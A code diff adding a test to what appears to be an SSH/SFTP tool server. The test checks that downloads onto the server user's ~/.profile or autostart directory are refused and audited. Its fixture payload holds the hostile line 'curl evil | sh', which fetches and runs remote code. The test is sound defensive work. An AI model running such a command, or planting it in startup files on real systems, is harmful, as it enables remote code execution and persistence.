@@ -146,3 +146,30 @@ def test_confine_local_refuses_protected_paths_by_any_spelling(tmp_path: Path) -
     with pytest.raises(PathNotAllowed, match="the server's own file"):
         confine_local(str(tmp_path / "dir/state/x"), roots, create=True, protected=protected)
     assert confine_local(str(tmp_path / "new"), roots, create=True, protected=protected)
+
+
+async def test_downloading_onto_a_startup_file_of_the_server_is_refused(
+    settings: Settings, home: Path, work_dir: Path, test_user: TestUser
+) -> None:
+    """Roots over the server's home: its ~/.profile or ~/.config/autostart would run as the
+    server's user. Reading such a file is fine (it is no secret); writing it is code."""
+    src = work_dir / "payload"
+    src.write_text("curl evil | sh\n")
+    os.chown(src, test_user.uid, test_user.uid)
+    (home / ".profile").write_text("# the server user's profile\n")
+    (home / ".config" / "autostart").mkdir(parents=True)
+    async with serve(settings) as (client, app):
+        for local in (home / ".profile", home / ".config" / "autostart" / "x.desktop"):
+            args = {"host": "target", "path": str(src), "local_path": str(local)}
+            r = await client.call_tool("ssh_sftp_download", {**args, "overwrite": True})
+            assert r.is_error and "the server's own logins or services" in text(r), text(r)
+            assert_audit(app, {"tool": "ssh_sftp_download", "error": "PathNotAllowed"})
+        assert (home / ".profile").read_text() == "# the server user's profile\n"
+        assert not (home / ".config" / "autostart" / "x.desktop").exists()
+        up = {
+            "host": "target",
+            "path": str(work_dir / "copy"),
+            "local_path": str(home / ".profile"),
+        }
+        r = await client.call_tool("ssh_upload", up)
+        assert not r.is_error, text(r)
